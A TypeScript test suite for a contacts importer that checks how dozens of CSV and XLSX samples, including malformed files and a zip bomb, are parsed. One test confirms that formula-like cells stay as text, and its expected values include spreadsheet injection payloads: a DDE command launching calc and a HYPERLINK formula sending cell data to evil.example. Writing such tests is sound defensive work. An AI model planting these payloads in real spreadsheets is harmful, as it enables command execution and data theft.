import { readFileSync } from 'node:fs'
import { basename } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { AddressParts } from '../../../db/domain/contact-point.ts'
import { AppError } from '../../../db/domain/errors.ts'
import type { ContactDraft } from '../../../db/exchange/import/contact/contact-draft.ts'
import { defaultSourceLimits } from '../../../db/exchange/import/source-limit.ts'
import { readCards } from '../../../db/exchange/import/vcard/read-cards.ts'
import { importOne, importSheets, tableReader, type ReadTable } from './read-table.ts'
import { hasSharedFiles, sharedFiles, sharedPath } from './shared-files.ts'

const present = hasSharedFiles('contacts/csv')
const { readFile } = tableReader()

/** How each sample is read, sheet by sheet; what is no table of contacts has rows without a name. */
const expected: Readonly<Record<string, readonly string[]>> = {
  'contacts/csv/atomic-crm/contacts.csv': ['utf-8', 'atomic-crm, header 1, 500 rows, 500 drafts, 0 problems'],
  'contacts/csv/atomic-crm/contacts_export.csv': [
    'utf-8',
    'atomic-crm, header 1, 2 rows, 2 drafts, 0 problems',
  ],
  'contacts/csv/civicrm/individual_country_state.csv': [
    'utf-8',
    'by header, header 1, 1 rows, 1 drafts, 0 problems',
  ],
  'contacts/csv/civicrm/individual_unicode.csv': [
    'utf-8',
    'by header, header 1, 1 rows, 1 drafts, 0 problems',
  ],
  'contacts/csv/civicrm/individual_valid_basic.csv': [
    'utf-8',
    'by header, header 1, 1 rows, 1 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/action-network-activists.csv': [
    'utf-8',
    'action-network, header 1, 10 rows, 10 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/airtable-grid-view.csv': [
    'utf-8',
    'airtable, header 1, 10 rows, 10 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/civicrm-contacts-export.csv': [
    'utf-8',
    'civicrm, header 1, 10 rows, 10 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/google-contacts-new.csv': [
    'utf-8',
    'google-new, header 1, 10 rows, 10 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/google-contacts-old.csv': [
    'utf-8',
    'google-old, header 1, 10 rows, 10 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/hubspot-contacts.csv': [
    'utf-8',
    'hubspot, header 1, 10 rows, 10 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/linkedin-connections.csv': [
    'utf-8',
    'linkedin, header 4, 9 rows, 9 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/mailchimp-subscribed.csv': [
    'utf-8',
    'mailchimp, header 1, 10 rows, 10 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/nationbuilder-people.csv': [
    'utf-8',
    'nationbuilder, header 1, 10 rows, 10 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/outlook-desktop-92col.csv': [
    'windows-1252',
    'outlook, header 1, 7 rows, 7 drafts, 0 problems',
  ],
  'contacts/csv/layouts-constructed/salesforce-report.csv': [
    'windows-1252',
    'salesforce-report, header 1, footer 11, 7 rows, 7 drafts, 0 problems',
  ],
  'contacts/csv/linkedin/Connections.csv': ['utf-8', 'linkedin, header 5, 10 rows, 10 drafts, 0 problems'],
  'contacts/csv/mautic/10contacts.csv': ['utf-8', 'mautic, header 1, 10 rows, 10 drafts, 0 problems'],
  'contacts/csv/roundcube/all.csv': ['utf-8', 'roundcube, header 1, 1 rows, 1 drafts, 0 problems'],
  'contacts/csv/roundcube/email.csv': ['utf-8', 'by header, header 1, 4 rows, 4 drafts, 0 problems'],
  'contacts/csv/roundcube/gmail.csv': ['utf-8', 'google-old, header 1, 1 rows, 1 drafts, 0 problems'],
  'contacts/csv/roundcube/outlook.csv': ['utf-8', 'outlook, header 1, 1 rows, 1 drafts, 0 problems'],
  'contacts/csv/roundcube/tb_plain.csv': ['utf-8', 'thunderbird, header 1, 1 rows, 1 drafts, 0 problems'],
  'contacts/csv/salesforce/Accounts-Contacts.csv': [
    'utf-8',
    'salesforce-accounts-contacts, header 1, 14 rows, 16 drafts, 0 problems',
  ],
  'contacts/csv/salesforce/NPSP_Data_Import_Template_csv.csv': [
    'utf-8',
    'salesforce-npsp, header 5, 0 rows, 0 drafts, 0 problems',
  ],
  'contacts/csv/spoke/female_scientists.csv': ['utf-8', 'spoke, header 1, 405 rows, 405 drafts, 0 problems'],
  'contacts/csv/thunderbird/basic_csv_addressbook.csv': [
    'utf-8',
    'thunderbird, header 1, 2 rows, 2 drafts, 0 problems',
  ],
  'contacts/csv/thunderbird/csv_no_header.csv': [
    'utf-8',
    'by header, header null, 2 rows, 2 drafts, 0 problems',
  ],
  'contacts/csv/thunderbird/csv_semicolon.csv': [
    'utf-8 ;',
    'thunderbird, header 1, 2 rows, 2 drafts, 0 problems',
  ],
  'nasty/csv/csv-spectrum/csvs/comma_in_quotes.csv': [
    'utf-8',
    'by header, header 1, 1 rows, 1 drafts, 0 problems',
  ],
  'nasty/csv/csv-spectrum/csvs/empty.csv': ['utf-8', 'by header, header 1, 2 rows, 0 drafts, 2 problems'],
  'nasty/csv/csv-spectrum/csvs/empty_crlf.csv': [
    'utf-8',
    'by header, header 1, 2 rows, 0 drafts, 2 problems',
  ],
  'nasty/csv/csv-spectrum/csvs/escaped_quotes.csv': [
    'utf-8',
    'by header, header 1, 2 rows, 0 drafts, 2 problems',
  ],
  'nasty/csv/csv-spectrum/csvs/json.csv': ['utf-8', 'by header, header 1, 1 rows, 0 drafts, 1 problems'],
  'nasty/csv/csv-spectrum/csvs/location_coordinates.csv': [
    'utf-8',
    'by header, header 1, 1 rows, 0 drafts, 1 problems',
  ],
  'nasty/csv/csv-spectrum/csvs/newlines.csv': ['utf-8', 'by header, header 1, 3 rows, 0 drafts, 3 problems'],
  'nasty/csv/csv-spectrum/csvs/newlines_crlf.csv': [
    'utf-8',
    'by header, header 1, 3 rows, 0 drafts, 3 problems',
  ],
  'nasty/csv/csv-spectrum/csvs/quotes_and_newlines.csv': [
    'utf-8',
    'by header, header 1, 2 rows, 0 drafts, 2 problems',
  ],
  'nasty/csv/csv-spectrum/csvs/simple.csv': ['utf-8', 'by header, header 1, 1 rows, 0 drafts, 1 problems'],
  'nasty/csv/csv-spectrum/csvs/simple_crlf.csv': [
    'utf-8',
    'by header, header 1, 1 rows, 0 drafts, 1 problems',
  ],
  'nasty/csv/csv-spectrum/csvs/utf8.csv': ['utf-8', 'by header, header 1, 2 rows, 0 drafts, 2 problems'],
  'nasty/csv/frictionless/accent.csv': ['utf-8 ;', 'by header, header 1, 2 rows, 0 drafts, 2 problems'],
  'nasty/csv/frictionless/ascii-notvalid.csv': ['utf-8', 'by header, header 1, 1 rows, 0 drafts, 1 problems'],
  'nasty/csv/frictionless/blank-cells.csv': ['utf-8', 'by header, header 1, 5 rows, 4 drafts, 1 problems'],
  'nasty/csv/frictionless/blank-headers.csv': ['utf-8', 'by header, header 1, 2 rows, 0 drafts, 2 problems'],
  'nasty/csv/frictionless/blank-rows-multiple.csv': [
    'utf-8',
    'by header, header 1, 2 rows, 2 drafts, 0 problems',
  ],
  'nasty/csv/frictionless/bom.csv': ['utf-8', 'by header, header 1, 2 rows, 2 drafts, 0 problems'],
  'nasty/csv/frictionless/capital-invalid.csv': [
    'utf-8',
    'by header, header 1, 10 rows, 9 drafts, 1 problems',
  ],
  'nasty/csv/frictionless/defective-rows.csv': ['utf-8', 'by header, header 1, 2 rows, 1 drafts, 1 problems'],
  'nasty/csv/frictionless/delimiter.csv': ['utf-8 ;', 'by header, header 1, 2 rows, 2 drafts, 0 problems'],
  'nasty/csv/frictionless/doublequote.csv': ['utf-8', 'by header, header 1, 5 rows, 0 drafts, 5 problems'],
  'nasty/csv/frictionless/duplicate-headers.csv': [
    'utf-8',
    'by header, header 1, 2 rows, 2 drafts, 0 problems',
  ],
  'nasty/csv/frictionless/duplicate-rows.csv': ['utf-8', 'by header, header 1, 3 rows, 3 drafts, 0 problems'],
  'nasty/csv/frictionless/empty.csv': ['utf-8', 'by header, header null, 0 rows, 0 drafts, 0 problems'],
  'nasty/csv/frictionless/encoding-issue-274.csv': [
    'utf-8',
    'by header, header 1, 507 rows, 507 drafts, 0 problems',
  ],
  'nasty/csv/frictionless/escaping.csv': ['utf-8', 'by header, header 1, 3 rows, 0 drafts, 3 problems'],
  'nasty/csv/frictionless/issue-1109.csv': ['utf-8', 'by header, header 1, 3 rows, 0 drafts, 3 problems'],
  'nasty/csv/frictionless/issue-991.csv': ['utf-8', 'by header, header 1, 1 rows, 0 drafts, 1 problems'],
  'nasty/csv/frictionless/latin1.csv': ['windows-1252', 'by header, header 1, 2 rows, 2 drafts, 0 problems'],
  'nasty/csv/frictionless/leading-zeros.csv': ['utf-8', 'by header, header 1, 3 rows, 0 drafts, 3 problems'],
  'nasty/csv/papaparse/long-sample.csv': ['utf-8', 'by header, header null, 8 rows, 8 drafts, 0 problems'],
  'nasty/csv/papaparse/sample-header.csv': ['utf-8', 'by header, header 1, 2 rows, 2 drafts, 0 problems'],
  'nasty/csv/papaparse/sample.csv': ['utf-8', 'by header, header 1, 1 rows, 0 drafts, 1 problems'],
  'nasty/csv/papaparse/utf-8-bom-sample.csv': ['utf-8', 'by header, header 1, 1 rows, 0 drafts, 1 problems'],
  'nasty/csv/papaparse/verylong-sample.csv': [
    'utf-8',
    'by header, header 1, 2000 rows, 0 drafts, 2000 problems',
  ],
  'nasty/encodings/japanese-2-contacts.shift_jis.csv': [
    'shift_jis',
    'by header, header 1, 2 rows, 2 drafts, 0 problems',
  ],
  'nasty/encodings/western-4-contacts.cp1252.csv': [
    'windows-1252',
    'by header, header 1, 4 rows, 4 drafts, 0 problems',
  ],
  'nasty/encodings/western-4-contacts.utf16le-bom.csv': [
    'utf-16le',
    'by header, header 1, 4 rows, 4 drafts, 0 problems',
  ],
  'nasty/encodings/western-4-contacts.utf8-bom.csv': [
    'utf-8',
    'by header, header 1, 4 rows, 4 drafts, 0 problems',
  ],
  'nasty/encodings/western-4-contacts.utf8.csv': [
    'utf-8',
    'by header, header 1, 4 rows, 4 drafts, 0 problems',
  ],
  'nasty/strings/formula-injection-contacts.csv': [
    'utf-8',
    'by header, header 1, 9 rows, 9 drafts, 0 problems',
  ],
  'nasty/xlsx/calamine/date.xlsx': ['xlsx', 'Sheet1: by header, header null, 3 rows, 0 drafts, 3 problems'],
  'nasty/xlsx/calamine/date_1904.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 3 rows, 0 drafts, 3 problems',
  ],
  'nasty/xlsx/calamine/date_iso.xlsx': [
    'xlsx',
    'Sheet: by header, header null, 6 rows, 0 drafts, 6 problems',
  ],
  'nasty/xlsx/calamine/empty_shared_string.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 1 rows, 1 drafts, 0 problems',
  ],
  'nasty/xlsx/calamine/empty_sheet.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 0 rows, 0 drafts, 0 problems',
  ],
  'nasty/xlsx/calamine/encoded_entities.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 1 rows, 0 drafts, 1 problems',
  ],
  'nasty/xlsx/calamine/errors.xlsx': [
    'xlsx',
    'Feuil1: by header, header null, 7 rows, 0 drafts, 7 problems',
    'Feuil2: by header, header null, 0 rows, 0 drafts, 0 problems',
    'Feuil3: by header, header null, 0 rows, 0 drafts, 0 problems',
  ],
  'nasty/xlsx/calamine/has_x000D_.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 1 rows, 1 drafts, 0 problems',
  ],
  'nasty/xlsx/calamine/has_x000D_inline.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 1 rows, 1 drafts, 0 problems',
  ],
  'nasty/xlsx/calamine/header-row.xlsx': [
    'xlsx',
    'Sheet1: by header, header 9, 1 rows, 0 drafts, 1 problems',
  ],
  'nasty/xlsx/calamine/inlineStr_cdata.xlsx': [
    'xlsx',
    'Sheet1: by header, header 1, 1 rows, 0 drafts, 1 problems',
  ],
  'nasty/xlsx/calamine/merge_cells.xlsx': [
    'xlsx',
    'Sheet1: by header, header 1, 1 rows, 0 drafts, 1 problems',
  ],
  'nasty/xlsx/calamine/minimal_package.xlsx': [
    'xlsx',
    'Sheet1: by header, header 3, 193 rows, 0 drafts, 193 problems',
  ],
  'nasty/xlsx/calamine/no-header.xlsx': [
    'xlsx',
    'Feuille 1: by header, header null, 2 rows, 2 drafts, 0 problems',
  ],
  'nasty/xlsx/calamine/nonstandard-xml-ns-prefix.xlsx': [
    'xlsx',
    'Sheet1: by header, header 1, 2 rows, 0 drafts, 2 problems',
  ],
  'nasty/xlsx/calamine/pass_protected.xlsx': ['file.notThisKind encrypted, or older than Excel 2007'],
  'nasty/xlsx/calamine/richtext-namespaced.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 1 rows, 1 drafts, 0 problems',
    'Sheet2: by header, header null, 0 rows, 0 drafts, 0 problems',
    'Sheet3: by header, header null, 0 rows, 0 drafts, 0 problems',
  ],
  'nasty/xlsx/calamine/rph.xlsx': ['xlsx', 'Sheet1: by header, header null, 1 rows, 1 drafts, 0 problems'],
  'nasty/xlsx/calamine/strict_iso_paths.xlsx': [
    'xlsx',
    'ml_out: by header, header 1, 75 rows, 0 drafts, 75 problems',
  ],
  'nasty/xlsx/calamine/whitespace_trim.xlsx': [
    'xlsx',
    'inlineStr: by header, header 1, 2 rows, 0 drafts, 2 problems',
    'SharedStrings: by header, header 1, 2 rows, 0 drafts, 2 problems',
  ],
  'nasty/xlsx/constructed/csv-renamed.xlsx': ['file.notThisKind no ZIP archive'],
  'nasty/xlsx/constructed/partner-roster.xlsx': [
    'xlsx hidden _hidden',
    'Partners: by header, header 4, 4 rows, 4 drafts, 0 problems',
    'Legislators: by header, header 1, 2 rows, 2 drafts, 0 problems',
  ],
  'nasty/xlsx/constructed/zip-bomb-30MB.xlsx': [
    'file.tooComplex xl/worksheets/sheet1.xml unpacks to more than 200 times its size',
  ],
  'nasty/xlsx/exceljs/1904.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 1 rows, 0 drafts, 1 problems',
    'Sheet2: by header, header null, 0 rows, 0 drafts, 0 problems',
    'Sheet3: by header, header null, 0 rows, 0 drafts, 0 problems',
  ],
  'nasty/xlsx/exceljs/bogus-defined-name.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 1 rows, 1 drafts, 0 problems',
  ],
  'nasty/xlsx/exceljs/chart-sheet.xlsx': [
    'xlsx',
    'Sheet1: by header, header 1, 6 rows, 0 drafts, 6 problems',
  ],
  'nasty/xlsx/exceljs/dateIssue.xlsx': ['xlsx', 'Sheet1: by header, header 1, 1 rows, 0 drafts, 1 problems'],
  'nasty/xlsx/exceljs/duplicateRowTest.xlsx': [
    'xlsx',
    'duplicateTest: by header, header null, 0 rows, 0 drafts, 0 problems',
  ],
  'nasty/xlsx/exceljs/formulas.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 2 rows, 2 drafts, 0 problems',
  ],
  'nasty/xlsx/exceljs/google-sheets.xlsx': [
    'xlsx',
    'Sheet1: by header, header 1, 2 rows, 0 drafts, 2 problems',
  ],
  'nasty/xlsx/exceljs/invalid-xml.xlsx': [
    'file.malformed xl/worksheets/sheet1.xml: text data outside of root node.',
  ],
  'nasty/xlsx/exceljs/libre-calc-as-office-open-xml-spreadsheet.xlsx': [
    'xlsx',
    'Sheet1: by header, header 1, 2 rows, 0 drafts, 2 problems',
  ],
  'nasty/xlsx/exceljs/many-columns.xlsx': [
    'xlsx',
    'Sheet1: by header, header 1, 1 rows, 0 drafts, 1 problems',
  ],
  'nasty/xlsx/exceljs/missing-bits.xlsx': ['file.malformed no workbook in the archive'],
  'nasty/xlsx/exceljs/shared_string_with_escape.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 1 rows, 1 drafts, 0 problems',
  ],
  'nasty/xlsx/exceljs/test-issue-163.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 3 rows, 0 drafts, 3 problems',
  ],
  'nasty/xlsx/exceljs/test-issue-771.xlsx': [
    'xlsx',
    'Sheet1: by header, header null, 0 rows, 0 drafts, 0 problems',
  ],
}

const textKind = ({ text, hiddenSheets }: ReadTable): string => {
  if (!text) return ['xlsx', ...hiddenSheets.map((name) => `hidden ${name}`)].join(' ')
  const { encoding, delimiter } = text
  return delimiter.value === ',' ? encoding.value : `${encoding.value} ${delimiter.value}`
}

function summary(file: ReadTable): string[] {
  const sheets = importSheets(file).map(({ sheet, table, mapping, drafts, problems }) => {
    const footer = table.footerLine.value === null ? [] : [`footer ${table.footerLine.value}`]
    const name = sheet.name === null ? '' : `${sheet.name}: `
    return [
      `${name}${mapping.layout ?? 'by header'}`,
      `header ${table.headerLine.value}`,
      ...footer,
      `${table.rows.length} rows`,
      `${drafts.length} drafts`,
      `${problems.length} problems`,
    ].join(', ')
  })
  return [textKind(file), ...sheets]
}

const refusal = (error: unknown): string[] => {
  if (!(error instanceof AppError) || !('detail' in error.params)) throw error
  return [`${error.code} ${String(error.params.detail)}`]
}

describe.skipIf(!present)('tables of other programs', () => {
  test.each(Object.entries(expected))('%s', async (path, told) => {
    const start = performance.now()
    expect(await readFile(sharedPath(path)).then(summary, refusal)).toEqual(told)
    expect(performance.now() - start).toBeLessThan(10_000)
  })

  test('are all in the list', () => {
    const folders = ['contacts/csv', 'nasty/csv', 'nasty/encodings', 'nasty/strings'] as const
    const files = [
      ...folders.flatMap((folder) => sharedFiles(folder, '.csv')),
      ...sharedFiles('nasty/xlsx', '.xlsx'),
    ]
    expect(Object.keys(expected).sort()).toEqual(files.sort())
  })

  test('the same contacts are the same whatever the encoding', async () => {
    const files = sharedFiles('nasty/encodings', '.csv').filter((file) => file.includes('western'))
    const texts = await Promise.all(files.map((file) => readFile(sharedPath(file))))
    expect(new Set(texts.map(({ sheets }) => JSON.stringify(sheets))).size).toBe(1)
  })

  test('the workbook of partners has its dates, codes and texts as they stand in it', async () => {
    const file = await readFile(sharedPath('nasty/xlsx/constructed/partner-roster.xlsx'))
    const [partners] = importSheets(file)
    expect(partners?.table.rows.map(({ cells }) => cells.slice(3, 6))).toEqual([
      ['+1 505 555 0101', '02903', '2024-01-15'],
      ['4015550103', '2903', '2023-12-31'],
      ['505-555-0107', '87301', '2022-05-06'],
      [],
    ])
    expect(partners?.drafts.map(({ noun }) => noun)).toEqual(['person', 'person', 'organization', 'person'])
    expect(partners?.drafts[3]?.affiliations[0]?.organization).toBe('=SUM(1,2) Org')
  })

  test('cells that look like formulas are the text they are', async () => {
    const { drafts } = importOne(await readFile(sharedPath('nasty/strings/formula-injection-contacts.csv')))
    expect(drafts.map(({ fields }) => fields['givenName'])).toEqual([
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(A1)',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?x="&A1,"ok")',
      '+1 505 555 0199',
      'p7@example.com',
      '@handle',
    ])
  })
})

type Records = readonly Readonly<Record<string, string>>[]

// What the suite itself gets wrong: a telephone number that the table does not hold.
const mistaken = new Set(['location_coordinates.csv'])
const spectrum = sharedFiles('nasty/csv/csv-spectrum/csvs', '.csv').filter(
  (file) => !mistaken.has(basename(file)),
)

describe.skipIf(!present)('the spectrum of tables', () => {
  test.each(spectrum)('%s holds the records that its suite expects', async (path) => {
    const json = path.replace('/csvs/', '/json/').replace('.csv', '.json')
    // The tables have lost the CR of their line breaks, their expected records have not.
    const text = readFileSync(sharedPath(json), 'utf8').replaceAll('\\r\\n', '\\n')
    const records = JSON.parse(text) as Records
    const { table } = importOne(await readFile(sharedPath(path)), { headerLine: 1 })
    const read = table.rows.map(({ cells }) =>
      Object.fromEntries(table.columns.map(({ name, index }) => [name, cells[index] ?? ''])),
    )
    expect(read).toEqual(records)
  })
})

const addressText = ({ street, city, region, postcode, country }: AddressParts): string =>
  [street, city, region, postcode, country].filter(Boolean).join(', ')

/** What both a table and a card say of a contact: where it is reached, in no order. Roundcube leaves the post box out. */
const reached = ({ points }: ContactDraft): string[] =>
  points
    .map(({ kind, value, parts }) => (kind === 'address' ? addressText(parts ?? {}) : `${kind} ${value}`))
    .sort()

describe.skipIf(!present)('the tables of Roundcube', () => {
  test.each(['all', 'email', 'gmail', 'outlook', 'tb_plain'])('%s says what its card says', async (name) => {
    const path = sharedPath(`contacts/csv/roundcube/${name}`)
    const { drafts } = importOne(await readFile(`${path}.csv`))
    const cards = readCards(`${path}.vcf`, defaultSourceLimits).drafts
    expect(drafts.map(reached)).toEqual(cards.map(reached))
    const parts = ({ fields }: ContactDraft) => [fields['givenName'], fields['familyName'], fields['suffix']]
    if (name !== 'email' && name !== 'outlook') expect(drafts.map(parts)).toEqual(cards.map(parts))
    expect(drafts.map(({ custom }) => custom['Birthday'])).toEqual(
      cards.map(({ custom }) => custom['Birthday']),
    )
  })
})
